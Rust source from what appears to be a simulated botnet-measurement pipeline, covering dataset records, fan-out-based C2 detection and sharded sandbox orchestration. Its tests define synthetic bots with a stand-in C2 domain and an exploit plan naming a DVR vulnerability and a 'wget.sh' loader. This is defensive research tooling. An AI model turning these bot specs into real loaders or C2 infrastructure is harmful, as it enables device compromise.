    /// The contained run degraded (fault or budget exhaustion) while
    /// syscall-boundary faults were being injected into it — the
    /// casualty is attributed to the emulator fault domain, with the
    /// injected-fault tally in `fault_context`.
    EmuFault,
}

/// One graceful-degradation event (D-Health row): a sample the pipeline
/// could not fully profile, with enough context to audit why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HealthRecord {
    /// Sample hash.
    pub sha256: String,
    /// Study day the event occurred.
    pub day: u32,
    /// What went wrong.
    pub kind: HealthKind,
    /// Exit reason / panic message detail.
    pub detail: String,
    /// Injected-fault context active for this sample (empty outside
    /// chaos runs).
    pub fault_context: Vec<String>,
}

/// The D-Health section: graceful-degradation accounting for a run.
///
/// `rows` holds the samples that could not be fully profiled;
/// `exit_counts` tallies every contained-run exit reason (including the
/// healthy ones), so the section doubles as a run health report.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HealthData {
    /// Quarantine/degradation events in merge (sample-id) order.
    pub rows: Vec<HealthRecord>,
    /// Contained-run exit reasons, coarsely classified, with counts.
    pub exit_counts: BTreeMap<String, u64>,
}

impl HealthData {
    /// Number of quarantined samples (worker panics), as opposed to
    /// degraded-but-profiled ones.
    pub fn quarantined(&self) -> usize {
        self.rows
            .iter()
            .filter(|r| r.kind == HealthKind::WorkerPanic)
            .count()
    }
}

/// The full output of a pipeline run (Table 1).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Datasets {
    /// D-Samples.
    pub samples: Vec<SampleRecord>,
    /// D-C2s keyed by address.
    pub c2s: BTreeMap<String, C2Record>,
    /// D-PC2.
    pub probed: Vec<ProbedC2>,
    /// D-Exploits.
    pub exploits: Vec<ExploitRecord>,
    /// D-DDOS.
    pub ddos: Vec<DdosRecord>,
    /// D-Health: graceful-degradation accounting (quarantined samples,
    /// sandbox faults, budget exhaustion).
    pub health: HealthData,
    /// D-Triage: static triage observations (empty when triage is off).
    pub triage: Vec<TriageRecord>,
}

impl Datasets {
    /// D-PC2 traffic-measurement count (paper: 64 per C2 over two weeks
    /// of 4-hour probes, i.e. probes actually delivered).
    pub fn probe_measurements(&self) -> usize {
        self.probed.iter().map(|p| p.probes.len()).sum()
    }

    /// Samples from which at least one exploit was extracted.
    pub fn exploit_sample_count(&self) -> usize {
        let mut shas: Vec<&str> = self.exploits.iter().map(|e| e.sha256.as_str()).collect();
        shas.sort_unstable();
        shas.dedup();
        shas.len()
    }

    /// A canonical, byte-stable serialization of every dataset.
    ///
    /// Row order is already canonical — the pipeline merges per-sample
    /// results in sample-id order and `c2s` is a `BTreeMap` — so a plain
    /// structured dump is reproducible. Two pipeline runs are equivalent
    /// iff their dumps are byte-identical; the parallel-determinism suite
    /// compares these across `parallelism` settings.
    pub fn canonical_dump(&self) -> String {
        let mut out = String::new();
        out.push_str("== D-Samples ==\n");
        for r in &self.samples {
            out.push_str(&format!("{r:?}\n"));
        }
        out.push_str("== D-C2s ==\n");
        for (addr, r) in &self.c2s {
            out.push_str(&format!("{addr} => {r:?}\n"));
        }
        out.push_str("== D-PC2 ==\n");
        for r in &self.probed {
            out.push_str(&format!("{r:?}\n"));
        }
        out.push_str("== D-Exploits ==\n");
        for r in &self.exploits {
            out.push_str(&format!("{r:?}\n"));
        }
        out.push_str("== D-DDOS ==\n");
        for r in &self.ddos {
            out.push_str(&format!("{r:?}\n"));
        }
        out.push_str("== D-Health ==\n");
        for r in &self.health.rows {
            out.push_str(&format!("{r:?}\n"));
        }
        for (reason, n) in &self.health.exit_counts {
            out.push_str(&format!("exit {reason} = {n}\n"));
        }
        // D-Triage stays LAST: the determinism suite strips it by
        // splitting on the section header to compare the dynamic
        // datasets across triage on/off.
        out.push_str("== D-Triage ==\n");
        for r in &self.triage {
            out.push_str(&format!("{r:?}\n"));
        }
        out
    }

    /// Table 1 summary line.
    pub fn table1(&self) -> String {
        format!(
            "D-Samples: {} | D-C2s: {} | D-PC2: {} measurements over {} servers | \
             D-Exploits: {} samples ({} payloads) | D-DDOS: {} commands",
            self.samples.len(),
            self.c2s.len(),
            self.probe_measurements(),
            self.probed.len(),
            self.exploit_sample_count(),
            self.exploits.len(),
            self.ddos.len(),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn observed_lifespan_rules() {
        let mut r = C2Record {
            addr: "1.2.3.4".into(),
            ip: Ipv4Addr::new(1, 2, 3, 4),
            port: 23,
            dns: false,
            asn: None,
            first_seen_day: 10,
            samples: vec![],
            live_days: vec![],
            vt_day0: false,
            vt_day0_vendors: 0,
            vt_late: false,
            vt_late_vendors: 0,
            protocol_verified: false,
            families: vec![],
        };
        assert_eq!(r.observed_lifespan(), 0);
        r.live_days = vec![10];
        assert_eq!(r.observed_lifespan(), 1);
        r.live_days = vec![10, 11, 14];
        assert_eq!(r.observed_lifespan(), 5);
    }

    #[test]
    fn dataset_counters() {
        let mut d = Datasets::default();
        d.exploits.push(ExploitRecord {
            sha256: "a".into(),
            day: 1,
            vulns: vec![],
            port: 80,
            downloader: None,
            loader: None,
            payload: vec![],
        });
        d.exploits.push(ExploitRecord {
            sha256: "a".into(),
            day: 1,
            vulns: vec![],
            port: 8080,
            downloader: None,
            loader: None,
            payload: vec![],
        });
        assert_eq!(d.exploit_sample_count(), 1);
        d.probed.push(ProbedC2 {
            ip: Ipv4Addr::new(1, 1, 1, 1),
            port: 23,
            probes: vec![(0, true), (1, false)],
        });
        assert_eq!(d.probe_measurements(), 2);
        assert!(d.table1().contains("D-Samples: 0"));
    }
}
