//! C2 address extraction from sandbox artifacts — the CnCHunter analysis
//! (paper §2.1: "we can detect C2-bound traffic with a 90% precision").
//!
//! Works purely on the run's capture bytes plus the fake resolver's query
//! log. The discriminator between C2-bound flows and scan/exploit flows
//! is **fan-out**: scanning contacts many addresses on one port, C2
//! check-ins contact one address on one port, usually repeatedly, and
//! carry a protocol login when the server engages.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::Ipv4Addr;

use malnet_protocols::profiler::identify_family;
use malnet_protocols::Family;
use malnet_sandbox::Artifacts;
use malnet_wire::packet::Transport;

/// A destination port is considered a *scan port* once this many distinct
/// addresses were contacted on it within one run.
pub const SCAN_FANOUT_THRESHOLD: usize = 8;

/// One detected C2 endpoint.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct C2Candidate {
    /// The address the malware used: a domain when the flow followed a
    /// DNS resolution, otherwise the literal IP.
    pub addr: String,
    /// The IP actually contacted.
    pub ip: Ipv4Addr,
    /// Destination port.
    pub port: u16,
    /// Was the address DNS-derived?
    pub dns: bool,
    /// SYN attempts seen.
    pub attempts: u32,
    /// Did the handshake complete (SYN-ACK + ACK observed)?
    pub connected: bool,
    /// Family identified from the first bot→server payload, if any.
    pub family_from_traffic: Option<Family>,
}

/// Extract C2 candidates from one contained/observational run.
pub fn detect_c2(art: &Artifacts, bot_ip: Ipv4Addr) -> Vec<C2Candidate> {
    let packets = art.packets();
    // DNS: map answered IPs back to queried names. The sandbox's wildcard
    // resolver answers every name with the sinkhole, so pair answers with
    // names by matching the response payloads in the capture.
    // Lookup-only (queried per candidate IP, never iterated). lint: hash-ok
    let mut ip_to_name: HashMap<Ipv4Addr, String> = HashMap::new();
    for (_, p) in &packets {
        if p.dst == bot_ip {
            if let Transport::Udp { header, payload } = &p.transport {
                if header.src_port == 53 {
                    if let Ok(msg) = malnet_wire::dns::DnsMessage::decode(payload) {
                        for (_, ip, _) in &msg.answers {
                            ip_to_name.insert(*ip, msg.question.as_str().to_string());
                        }
                    }
                }
            }
        }
    }
    // Flow statistics keyed by (dst, port).
    #[derive(Default)]
    struct Flow {
        syns: u32,
        connected: bool,
        first_payload: Vec<u8>,
    }
    let mut flows: BTreeMap<(Ipv4Addr, u16), Flow> = BTreeMap::new();
    // Lookup-only (fanout counts read per flow key). lint: hash-ok
    let mut port_fanout: HashMap<u16, BTreeSet<Ipv4Addr>> = HashMap::new();
    let mut synack_seen: BTreeSet<(Ipv4Addr, u16)> = BTreeSet::new();
    for (_, p) in &packets {
        if let Transport::Tcp { header, payload } = &p.transport {
            if p.src == bot_ip {
                let key = (p.dst, header.dst_port);
                let f = flows.entry(key).or_default();
                if header.flags.syn() && !header.flags.ack() {
                    f.syns += 1;
                    port_fanout
                        .entry(header.dst_port)
                        .or_default()
                        .insert(p.dst);
                }
                if !payload.is_empty() && f.first_payload.is_empty() {
                    f.first_payload = payload.clone();
                }
            } else if p.dst == bot_ip && header.flags.syn() && header.flags.ack() {
                synack_seen.insert((p.src, header.src_port));
            }
        }
    }
    for (key, f) in &mut flows {
        f.connected = synack_seen.contains(key);
    }

    let mut out = Vec::new();
    for ((ip, port), f) in flows {
        let fanout = port_fanout.get(&port).map(|s| s.len()).unwrap_or(0);
        if fanout >= SCAN_FANOUT_THRESHOLD {
            continue; // scan/exploit traffic
        }
        // HTTP fetches to port 80 with GET lines are loader downloads,
        // not C2 check-ins.
        if port == 80 && f.first_payload.starts_with(b"GET ") {
            continue;
        }
        let family = identify_family(&f.first_payload);
        // Precision guard: require persistence or a protocol login.
        if f.syns < 2 && family.is_none() {
            continue;
        }
        let (addr, dns) = match ip_to_name.get(&ip) {
            Some(name) => (name.clone(), true),
            None => (ip.to_string(), false),
        };
        out.push(C2Candidate {
            addr,
            ip,
            port,
            dns,
            attempts: f.syns,
            connected: f.connected,
            family_from_traffic: family,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_botgen::binary::emit_elf;
    use malnet_botgen::exploitdb::VulnId;
    use malnet_botgen::programs::compile;
    use malnet_botgen::spec::{BehaviorSpec, C2Endpoint, ExploitPlan};
    use malnet_netsim::net::Network;
    use malnet_netsim::time::{SimDuration, SimTime};
    use malnet_sandbox::{AnalysisMode, Sandbox, SandboxConfig};

    const BOT: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);
    const C2: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 5);

    fn run(spec: &BehaviorSpec, secs: u64) -> Artifacts {
        let elf = emit_elf(&compile(spec), b"t");
        let mut sb = Sandbox::new(
            Network::new(SimTime::EPOCH, 4),
            SandboxConfig {
                mode: AnalysisMode::Contained,
                handshaker_threshold: Some(5),
                ..Default::default()
            },
        );
        sb.execute(&elf, SimDuration::from_secs(secs))
    }

    #[test]
    fn detects_ip_c2_and_ignores_scans() {
        let spec = BehaviorSpec {
            c2: vec![(C2Endpoint::Ip(C2), 23)],
            exploits: vec![ExploitPlan {
                vuln: VulnId::MvpowerDvr,
                downloader: C2,
                loader: "wget.sh".into(),
                full_gpon: true,
            }],
            scan_mask: 0x3f,
            scan_burst: 6,
            recv_timeout_ms: 4000,
            ..Default::default()
        };
        let art = run(&spec, 400);
        let cands = detect_c2(&art, BOT);
        assert_eq!(cands.len(), 1, "{cands:?}");
        assert_eq!(cands[0].ip, C2);
        assert_eq!(cands[0].port, 23);
        assert!(!cands[0].dns);
        assert!(cands[0].attempts >= 2);
    }

    #[test]
    fn detects_dns_c2_with_domain_attribution() {
        let spec = BehaviorSpec {
            c2: vec![(C2Endpoint::Domain("cnc.dark.example".into()), 6667)],
            recv_timeout_ms: 4000,
            ..Default::default()
        };
        let art = run(&spec, 120);
        let cands = detect_c2(&art, BOT);
        assert_eq!(cands.len(), 1, "{cands:?}");
        assert!(cands[0].dns);
        assert_eq!(cands[0].addr, "cnc.dark.example");
        assert_eq!(cands[0].port, 6667);
    }

    #[test]
    fn p2p_sample_yields_no_tcp_c2() {
        let spec = BehaviorSpec {
            family: Family::Mozi,
            c2: vec![],
            peers: vec![(Ipv4Addr::new(88, 10, 0, 10), 14737)],
            ..Default::default()
        };
        let art = run(&spec, 120);
        assert!(detect_c2(&art, BOT).is_empty());
    }

    #[test]
    fn empty_capture_yields_nothing() {
        let art = Artifacts {
            exit: malnet_sandbox::ExitReason::Exited(0),
            pcap: malnet_wire::pcap::to_bytes(&[]),
            exploits: vec![],
            dns_queries: vec![],
            instructions: 0,
            syscalls: 0,
            emu_faults: malnet_sandbox::EmuFaultTally::default(),
        };
        assert!(detect_c2(&art, BOT).is_empty());
    }
}
