//! The daily MalNet loop (paper §2): collect → vet → activate → extract
//! → cross-validate → track.
//!
//! For every study day with new feed items the pipeline:
//!
//! 1. vets each binary (≥ 5 AV engines, §2.2) and labels it (YARA +
//!    AVClass2),
//! 2. activates it in the **contained** sandbox (InetSim-faked Internet)
//!    to extract C2 candidates (§2.1 mode 1) and exploit payloads via the
//!    handshaker (§2.4),
//! 3. queries the intelligence feeds for each C2 address on the discovery
//!    day (§2.3a / §3.3),
//! 4. checks day-0 liveness against the real (simulated) Internet and
//!    keeps probing known C2s daily to measure observed lifespans (§3.2),
//! 5. for samples with a live, engaging C2, runs a **restricted** session
//!    (C2-only egress) and extracts DDoS commands (§2.5),
//! 6. runs the D-PC2 probing study in its two-week window (§2.3b),
//! 7. re-queries the feeds at the end ("May 7th") for Table 3.
//!
//! ## Day-epoch sharding
//!
//! Days no longer execute as one sequential walk. The study plan (which
//! sample runs on which day) is computed up front, partitioned into
//! [`PipelineOpts::day_shards`] contiguous day-ranges ("epochs"), and
//! each epoch runs as an independent unit over [`crate::par::fan_out`]:
//! phase A (contained activation), phase B (world-effect merge +
//! restricted sessions) and the epoch's own [`VendorDb`] knowledge delta
//! and [`Datasets`] slice, all pure functions of `(world, opts, epoch
//! days)`. Cross-day state — the C2 liveness-tracking table and the
//! merged vendor knowledge — is owned exclusively by the deterministic
//! reduce ([`merge_epoch_results`]): it folds epoch deltas in canonical
//! day order, re-resolves every liveness transition (including ones that
//! straddle an epoch edge) through a pure per-`(day, address)` oracle,
//! and emits the entire `malnet.events` day stream from the fold, so the
//! stream and every dataset byte are independent of how many shards (or
//! worker threads) executed the study. DESIGN.md §8 states the ownership
//! rules; `crates/core/tests/parallel_determinism.rs` proves the
//! byte-identity across day-shards × parallelism × chaos.

use std::collections::btree_map::Entry;
use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::panic::AssertUnwindSafe;

use malnet_prng::{fnv1a, sub_seed};
use malnet_telemetry::{Field as EventField, SpanCtx, Telemetry};

use malnet_botgen::exploitdb;
use malnet_botgen::world::World;
use malnet_intel::engines::EngineModel;
use malnet_intel::{avclass2_label, yara_label, VendorDb};
use malnet_netsim::net::Network;
use malnet_netsim::stack::SockEvent;
use malnet_netsim::time::{SimDuration, SimTime, STUDY_DAYS};
use malnet_protocols::Family;
use malnet_sandbox::{AnalysisMode, EmuFaultTally, Sandbox, SandboxConfig};
use malnet_wire::dns::{DnsMessage, DomainName};

use crate::c2detect::detect_c2;
use crate::chaos::FaultPlan;
use crate::datasets::{
    C2Record, Datasets, DdosRecord, ExploitRecord, HealthKind, HealthRecord, SampleRecord,
    TriageRecord,
};
use crate::ddos;
use crate::prober::{self, ProbeConfig};

/// The monitor host used for liveness probes and DNS lookups.
pub const MONITOR_IP: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 7);
/// The sandboxed device address.
pub const BOT_IP: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);

/// Pipeline knobs. Defaults follow the paper; tests shrink durations.
#[derive(Debug, Clone)]
pub struct PipelineOpts {
    /// RNG seed for sandbox runs.
    pub seed: u64,
    /// Virtual seconds of the contained (C2 + exploit extraction) run.
    pub contained_secs: u64,
    /// Virtual seconds of the restricted DDoS-observation session
    /// (paper: 2 hours).
    pub restricted_secs: u64,
    /// Handshaker engagement threshold (paper: 20 distinct addresses).
    pub handshaker_threshold: usize,
    /// Behavioural DDoS threshold in packets/second (paper: 100).
    pub pps_threshold: u64,
    /// AV corroboration bar (paper: 5 engines).
    pub av_bar: u32,
    /// Days to keep re-probing a discovered C2 after it stops answering.
    pub track_grace_days: u32,
    /// Upper bound on tracked days per C2.
    pub track_max_days: u32,
    /// Run the D-PC2 probing study.
    pub run_probing: bool,
    /// Probing rounds (paper: 84 = 14 days × 6).
    pub probe_rounds: u32,
    /// Hosts swept per probing subnet (paper: the full /24).
    pub probe_hosts_per_subnet: u32,
    /// Analyze at most this many samples (tests); `None` = all.
    pub max_samples: Option<usize>,
    /// Run the phase-0 static triage (`malnet-xray`) on every sample
    /// before its contained activation. Observation-only: the triage
    /// result lands in D-Triage and telemetry, and nothing downstream
    /// branches on it, so the dynamic datasets are byte-identical with
    /// triage on or off (enforced by the parallel-determinism suite).
    pub static_triage: bool,
    /// Day of the final feed re-query (paper: 2022-05-07 ≈ day 432).
    pub late_query_day: u32,
    /// Worker threads for the fan-out stages (contained activation,
    /// restricted sessions, the epoch pool and the liveness oracle).
    /// `1` (the default) keeps every stage a plain sequential loop.
    /// Every value produces byte-identical datasets: each unit of work
    /// draws from its own [`sub_seed`]-derived RNG and results are
    /// merged back in canonical order (see DESIGN.md §8).
    pub parallelism: usize,
    /// Contiguous day-ranges ("epochs") the study plan is split into.
    /// `1` (the default) runs the whole study as a single epoch; larger
    /// values let epochs execute concurrently on the epoch pool. Every
    /// value produces byte-identical datasets and event streams: all
    /// cross-day state lives in the deterministic epoch reduce
    /// ([`merge_epoch_results`]), never inside an epoch.
    pub day_shards: usize,
    /// Deterministic chaos-engineering fault plan. [`FaultPlan::none`]
    /// (the default) injects nothing, draws no randomness, and leaves
    /// every byte of the datasets untouched; any other plan perturbs the
    /// run identically at every parallelism level (enforced by the
    /// determinism suite).
    pub faults: FaultPlan,
    /// Bounded SYN re-probes (with linear backoff) before the daily
    /// liveness sweep or the D-PC2 prober declares a listener dead.
    /// Defaults to `2`: the legacy single-probe behaviour (`0`) let a
    /// one-packet loss window kill a live C2's tracking entry, skewing
    /// the lifespan study toward short lives (see the
    /// `syn_retry_survives_transient_loss` regression test).
    pub syn_retries: u32,
    /// Run guests on the block-cached interpreter (default) or the
    /// legacy stepping oracle. Bit-exact either way — the determinism
    /// suite diffs full dataset dumps across both settings — so this is
    /// purely a speed/differential-testing knob.
    pub block_engine: bool,
}

impl Default for PipelineOpts {
    fn default() -> Self {
        PipelineOpts {
            seed: 22,
            contained_secs: 420,
            restricted_secs: 7200,
            handshaker_threshold: 20,
            pps_threshold: 100,
            av_bar: 5,
            track_grace_days: 2,
            track_max_days: 60,
            run_probing: true,
            probe_rounds: 84,
            probe_hosts_per_subnet: 254,
            max_samples: None,
            static_triage: true,
            late_query_day: STUDY_DAYS + 45,
            parallelism: 1,
            day_shards: 1,
            faults: FaultPlan::none(),
            syn_retries: 2,
            block_engine: true,
        }
    }
}

impl PipelineOpts {
    /// A configuration small enough for unit/integration tests while
    /// exercising every stage.
    pub fn fast() -> Self {
        PipelineOpts {
            contained_secs: 150,
            restricted_secs: 4200,
            handshaker_threshold: 5,
            probe_rounds: 12,
            probe_hosts_per_subnet: 30,
            ..Default::default()
        }
    }
}

/// Cross-day tracking state for one C2 — owned exclusively by the epoch
/// reduce's chronological fold.
struct TrackState {
    ip: Ipv4Addr,
    port: u16,
    misses: u32,
    days: u32,
}

/// The pipeline engine.
pub struct Pipeline {
    opts: PipelineOpts,
    tel: Telemetry,
}

impl Pipeline {
    /// Create a pipeline with telemetry disabled.
    pub fn new(opts: PipelineOpts) -> Self {
        Self::with_telemetry(opts, Telemetry::disabled())
    }

    /// Create a pipeline that records spans/counters into `tel`. The
    /// instrumentation is observation-only — it never draws from any
    /// RNG or reads the simulated clock — so the returned datasets are
    /// byte-identical to an uninstrumented run (enforced by
    /// `crates/core/tests/parallel_determinism.rs`). Snapshot the
    /// results with [`Telemetry::report`] after [`Pipeline::run`].
    pub fn with_telemetry(opts: PipelineOpts, tel: Telemetry) -> Self {
        Pipeline { opts, tel }
    }

    /// Run the full study over a world and return the datasets.
    ///
    /// Orchestration only: the per-day work happens inside the epoch
    /// pool ([`run_day_epochs`]) and every cross-day effect inside the
    /// reduce ([`merge_epoch_results`]); this method wraps them with the
    /// study lifecycle (events, late feed re-query, D-PC2 probing).
    pub fn run(self, world: &World) -> (Datasets, VendorDb) {
        let Pipeline { opts, tel } = self;
        let _run_span = tel.span("pipeline.run");
        let plans = day_plans(world, &opts);
        let analyzed: usize = plans.iter().map(|p| p.batch.len()).sum();
        let bound = study_bound(world, &opts);

        // Event-stream lifecycle: every emission happens on this
        // coordinator thread at a deterministic point (the reduce's
        // day-ordered fold, post-join milestones), with payloads derived
        // only from simulation state and recorded per-day deltas — so
        // the stream itself is deterministic and provably inert across
        // parallelism AND day-shard counts (see telemetry::events).
        tel.event(
            "study_start",
            None,
            &[
                ("seed", EventField::U(opts.seed)),
                ("parallelism", EventField::U(opts.parallelism as u64)),
                ("day_shards", EventField::U(opts.day_shards.max(1) as u64)),
                ("samples", EventField::U(world.samples.len() as u64)),
                ("last_day", EventField::U(u64::from(bound))),
            ],
        );

        let epochs = run_day_epochs(world, &opts, &tel);
        let (mut data, vendors) = merge_epoch_results(world, &opts, epochs, &tel);

        // Final feed re-query ("May 7th 2022").
        {
            let _late_span = tel.span("pipeline.late_query");
            let late = opts.late_query_day;
            for rec in data.c2s.values_mut() {
                let v = vendors.query(&rec.addr, late);
                rec.vt_late = v.is_malicious();
                rec.vt_late_vendors = v.count();
            }
        }

        // D-PC2 probing study.
        if opts.run_probing {
            let weapons = probe_weapons(world);
            if !weapons.is_empty() {
                let _probe_span = tel.span("pipeline.probing");
                let cfg = ProbeConfig {
                    rounds: opts.probe_rounds,
                    hosts_per_subnet: opts.probe_hosts_per_subnet,
                    syn_retries: opts.syn_retries,
                    parallelism: opts.parallelism,
                    block_engine: opts.block_engine,
                    ..ProbeConfig::from_world(world)
                };
                data.probed = prober::run_probing(world, &weapons, &cfg, opts.seed, &tel);
            }
        }

        // The final counter snapshot comes after ALL counter movement
        // (probing included) so the stream's fold reconstructs the final
        // report's counters exactly; then the stream is sealed. Both are
        // no-ops without an attached sink.
        tel.counters_event();
        tel.event(
            "study_end",
            None,
            &[
                ("samples_analyzed", EventField::U(analyzed as u64)),
                ("c2s_known", EventField::U(data.c2s.len() as u64)),
                ("probed_c2s", EventField::U(data.probed.len() as u64)),
            ],
        );
        tel.finish_events();

        (data, vendors)
    }
}

// ---------------------------------------------------------------------
// Study planning: which sample runs on which day, and which epoch owns
// which day. All pure functions of (world, opts).
// ---------------------------------------------------------------------

/// One study day's planned phase-A batch (sample ids in ascending
/// order, after the global `max_samples` truncation).
#[derive(Debug, Clone)]
struct DayPlan {
    day: u32,
    batch: Vec<usize>,
}

/// Last day the chronological fold walks: tracking may outlive the feed
/// by up to `track_max_days`.
fn study_bound(world: &World, opts: &PipelineOpts) -> u32 {
    let last_publish = world.publish_days().into_iter().max().unwrap_or(0);
    (last_publish + opts.track_max_days).min(STUDY_DAYS + opts.track_max_days)
}

/// The study plan: every day with a non-empty batch, in day order. The
/// `max_samples` cap is applied here — on the *plan*, before any epoch
/// runs — so the cap is a global property of the study, not of whichever
/// epoch happens to execute first.
fn day_plans(world: &World, opts: &PipelineOpts) -> Vec<DayPlan> {
    let bound = study_bound(world, opts);
    let mut days: Vec<u32> = world.publish_days();
    days.sort_unstable();
    let mut analyzed = 0usize;
    let mut plans = Vec::new();
    for day in days {
        if day > bound {
            continue;
        }
        // `samples_published_on` returns ids in ascending order, so the
        // batch — and everything the merge stages do — is canonical.
        let mut batch: Vec<usize> = world
            .samples_published_on(day)
            .iter()
            .map(|s| s.id)
            .collect();
        if let Some(max) = opts.max_samples {
            batch.truncate(max.saturating_sub(analyzed));
        }
        analyzed += batch.len();
        if batch.is_empty() {
            continue;
        }
        plans.push(DayPlan { day, batch });
    }
    plans
}

/// Partition the plan into `shards` contiguous day-ranges, balanced by
/// cumulative sample count (an epoch's cost is dominated by its sandbox
/// runs, not its day count). Deterministic, order-preserving, and never
/// produces an empty epoch.
fn partition_epochs(plans: Vec<DayPlan>, shards: usize) -> Vec<Vec<DayPlan>> {
    let shards = shards.max(1);
    let total: usize = plans.iter().map(|p| p.batch.len()).sum::<usize>().max(1);
    let mut parts: Vec<Vec<DayPlan>> = Vec::new();
    let mut cum = 0usize;
    let mut last_shard = usize::MAX;
    for plan in plans {
        cum += plan.batch.len();
        let shard = ((cum - 1) * shards / total).min(shards - 1);
        if shard != last_shard {
            parts.push(Vec::new());
            last_shard = shard;
        }
        if let Some(cur) = parts.last_mut() {
            cur.push(plan);
        }
    }
    parts
}

// ---------------------------------------------------------------------
// Epoch execution: everything a contiguous day-range produces on its
// own, as plain mergeable data.
// ---------------------------------------------------------------------

/// A stream-event payload value recorded inside an epoch for the reduce
/// to replay. Owned mirror of [`EventField`].
#[derive(Debug, Clone)]
enum RecVal {
    U(u64),
    S(String),
}

/// One stream event an epoch recorded instead of emitting: epochs run
/// concurrently, so only the reduce's day-ordered fold may write to the
/// event sink.
#[derive(Debug, Clone)]
struct RecordedEvent {
    kind: &'static str,
    fields: Vec<(&'static str, RecVal)>,
}

impl RecordedEvent {
    fn emit(&self, tel: &Telemetry) {
        let fields: Vec<(&str, EventField<'_>)> = self
            .fields
            .iter()
            .map(|(name, v)| {
                let f = match v {
                    RecVal::U(u) => EventField::U(*u),
                    RecVal::S(s) => EventField::S(s.as_str()),
                };
                (*name, f)
            })
            .collect();
        tel.event(self.kind, None, &fields);
    }
}

/// A day-0 liveness hit recorded by an epoch: the reduce replays it to
/// update `C2Record::live_days`/`ip` and to seed the tracking table —
/// the two cross-day effects an epoch must not apply itself.
#[derive(Debug, Clone)]
struct Day0Live {
    addr: String,
    ip: Ipv4Addr,
    port: u16,
}

/// One day's mergeable residue inside an [`EpochResult`].
#[derive(Debug, Clone)]
struct EpochDay {
    day: u32,
    batch_len: usize,
    /// Instructions retired by this day's contained + restricted runs
    /// (the reduce reconstructs heartbeat totals from these, so the
    /// stream is independent of scheduling).
    instructions: u64,
    /// Wall time of the epoch-side day work (masked in determinism
    /// comparisons, like every wall-clock value).
    wall_us: u64,
    events: Vec<RecordedEvent>,
    day0_live: Vec<Day0Live>,
}

/// Everything one epoch (a contiguous run of batch days) produced: its
/// dataset slice, its vendor-knowledge delta, and per-day residues for
/// the reduce. Opaque outside this module — tests treat it as a value
/// to shuffle and merge.
#[derive(Debug, Clone)]
pub struct EpochResult {
    start_day: u32,
    days: Vec<EpochDay>,
    data: Datasets,
    vendors: VendorDb,
}

/// One epoch's running state while its days execute.
struct EpochRun<'a> {
    world: &'a World,
    opts: &'a PipelineOpts,
    tel: Telemetry,
    engines: EngineModel,
    vendors: VendorDb,
    data: Datasets,
}

/// Run the study plan as [`PipelineOpts::day_shards`] epochs on the
/// epoch pool and return their results in epoch (day) order.
///
/// Each epoch is a pure function of `(world, opts, its days)`: every
/// network it touches is detached ([`World::network_for_day_detached`],
/// per-day [`DOMAIN_WORLD_NET`] sub-seeds), every RNG stream is
/// per-sample or per-address, and no epoch reads the tracking table or
/// another epoch's vendor knowledge. Public so the epoch-merge
/// permutation proptest can drive [`merge_epoch_results`] with shuffled
/// inputs.
pub fn run_day_epochs(world: &World, opts: &PipelineOpts, tel: &Telemetry) -> Vec<EpochResult> {
    let plans = day_plans(world, opts);
    let parts = partition_epochs(plans, opts.day_shards);
    // Workers re-attach their epoch spans under the coordinator's run
    // span, same as every other fan-out in the workspace.
    let parent = tel.current_span();
    crate::par::fan_out(
        parts.len(),
        opts.parallelism,
        |i| run_epoch(world, opts, &parts[i], tel, &parent),
        // Unreachable short of a harness bug (see `fan_out`): an empty
        // epoch keeps the reduce total-ordered instead of aborting.
        |i| EpochResult {
            start_day: parts[i].first().map_or(0, |p| p.day),
            days: Vec::new(),
            data: Datasets::default(),
            vendors: VendorDb::new(opts.seed),
        },
    )
}

/// Execute one epoch's days in order. Runs on an epoch-pool worker; the
/// only shared state it touches is (commutative) telemetry.
fn run_epoch(
    world: &World,
    opts: &PipelineOpts,
    plans: &[DayPlan],
    tel: &Telemetry,
    parent: &SpanCtx,
) -> EpochResult {
    let _epoch_span = tel.span_under("pipeline.epoch", parent);
    let mut run = EpochRun {
        world,
        opts,
        tel: tel.clone(),
        engines: EngineModel::new(opts.seed),
        vendors: VendorDb::new(opts.seed),
        data: Datasets::default(),
    };
    let mut days = Vec::with_capacity(plans.len());
    for plan in plans {
        days.push(run.run_day(plan));
    }
    EpochResult {
        start_day: plans.first().map_or(0, |p| p.day),
        days,
        data: run.data,
        vendors: run.vendors,
    }
}

impl EpochRun<'_> {
    /// One epoch day: phase A fan-out, then the B1/B2/B3 split from
    /// PR 5, recording cross-day effects instead of applying them.
    fn run_day(&mut self, plan: &DayPlan) -> EpochDay {
        let tel = self.tel.clone();
        let day = plan.day;
        let day_span = tel.span("pipeline.day");
        let watch = tel.stopwatch();
        let mut eday = EpochDay {
            day,
            batch_len: plan.batch.len(),
            instructions: 0,
            wall_us: 0,
            events: Vec::new(),
            day0_live: Vec::new(),
        };
        tel.add("pipeline.samples_analyzed", plan.batch.len() as u64);
        // The epoch's own network for this day: identical topology to
        // what any other shard layout would build, private RNG and
        // responsiveness chains ([`DOMAIN_WORLD_NET`]).
        let (mut net, _logs) = self
            .world
            .network_for_day_detached(day, sub_seed(self.opts.seed ^ DOMAIN_WORLD_NET, day, 0));
        net.set_telemetry(&tel);
        apply_world_chaos(&self.opts.faults, self.world, &mut net, day, &tel);
        let outcomes = {
            let _phase_a = tel.span("pipeline.phase_a");
            run_contained_batch(self.world, self.opts, day, &plan.batch, &tel)
        };
        {
            // Phase B splits in three: B1 replays every world-network
            // effect in sample-id order on the epoch's day network, B2
            // fans restricted sessions out over detached per-sample
            // networks, B3 folds their evidence back in sample-id
            // order. Only B2 is parallel; B1/B3 own the epoch state.
            let _phase_b = tel.span("pipeline.phase_b");
            let mut jobs: Vec<RestrictedJob> = Vec::new();
            for outcome in outcomes {
                match outcome {
                    Ok(out) => {
                        eday.instructions += out.instructions;
                        if let Some(job) = self.merge_world_effects(&mut net, day, out, &mut eday) {
                            jobs.push(job);
                        }
                    }
